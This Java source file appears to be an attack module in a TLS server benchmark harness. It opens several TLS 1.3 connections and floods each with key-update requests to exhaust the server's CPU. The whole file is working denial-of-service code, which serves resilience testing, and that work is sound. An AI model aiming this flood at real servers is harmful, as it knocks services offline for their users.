package dev.parley.bench.attack;

import java.io.IOException;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLEngineResult.HandshakeStatus;
import org.jspecify.annotations.Nullable;

/// Peers that complete the handshake and then only request new keys (RFC 8446 §4.6.3), which takes
/// 27 bytes and makes both sides derive keys. The answers are read and discarded.
final class KeyUpdates implements Attack {
  private static final int PEERS = 8;
  private static final int AT_ONCE = 64;
  private static final int RECORD = 1 << 15;
  private static final long HANDSHAKE_NANOS = 5_000_000_000L;

  private final List<Peer> peers = new ArrayList<>();
  private final ByteBuffer forgotten = ByteBuffer.allocateDirect(1 << 16);
  private @Nullable SSLContext context;
  private @Nullable Target target;
  private long done;

  @Override
  public void start(Target aim) throws IOException {
    target = aim;
    context = TlsEngines.trusting(aim.credentials());
  }

  @Override
  public void step() throws IOException {
    if (peers.size() < PEERS && target != null && context != null) {
      try {
        peers.add(Peer.connect(target, context));
      } catch (IOException e) {
        // Refused: the next step retries.
        Thread.onSpinWait();
      }
    }
    for (Peer peer : List.copyOf(peers)) {
      try {
        done += peer.update(forgotten);
      } catch (IOException e) {
        peers.remove(peer);
        peer.channel.close();
      }
    }
  }

  @Override
  public long done() {
    return done;
  }

  @Override
  public void close() throws IOException {
    for (Peer peer : peers) {
      peer.channel.close();
    }
  }

  private static final class Peer {
    final SocketChannel channel;
    private final SSLEngine engine;
    private final ByteBuffer out = ByteBuffer.allocate(2 * RECORD).flip();

    private Peer(SocketChannel channel, SSLEngine engine) {
      this.channel = channel;
      this.engine = engine;
    }

    static Peer connect(Target target, SSLContext context) throws IOException {
      SocketChannel channel = SocketChannel.open(target.address());
      try {
        channel.configureBlocking(false);
        Peer peer = new Peer(channel, TlsEngines.client(context));
        peer.shakeHands();
        return peer;
      } catch (IOException e) {
        channel.close();
        throw e;
      }
    }

    private void shakeHands() throws IOException {
      ByteBuffer in = ByteBuffer.allocate(2 * RECORD);
      ByteBuffer plain = ByteBuffer.allocate(2 * RECORD);
      ByteBuffer nothing = ByteBuffer.allocate(0);
      long end = System.nanoTime() + HANDSHAKE_NANOS;
      engine.beginHandshake();
      while (engine.getHandshakeStatus() != HandshakeStatus.NOT_HANDSHAKING) {
        if (System.nanoTime() - end > 0) {
          throw new SocketTimeoutException("no handshake");
        }
        switch (engine.getHandshakeStatus()) {
          case NEED_WRAP -> {
            var _ = engine.wrap(nothing, out.compact());
            out.flip();
            write();
          }
          case NEED_TASK -> engine.getDelegatedTask().run();
          default -> {
            if (channel.read(in) < 0) {
              throw new IOException("closed in the handshake");
            }
            var _ = engine.unwrap(in.flip(), plain.clear());
            in.compact();
          }
        }
      }
    }

    private void write() throws IOException {
      int _ = channel.write(out);
    }

    /// Requests new keys as often as fits into a buffer, and returns how often.
    int update(ByteBuffer forgotten) throws IOException {
      if (channel.read(forgotten.clear()) < 0) {
        throw new IOException("closed by the server");
      }
      int count = 0;
      if (!out.hasRemaining()) {
        out.clear();
        for (; count < AT_ONCE; count++) {
          // After the handshake of TLS 1.3, beginHandshake updates the keys.
          engine.beginHandshake();
          var _ = engine.wrap(ByteBuffer.allocate(0), out);
        }
        out.flip();
      }
      write();
      return count;
    }
  }
}
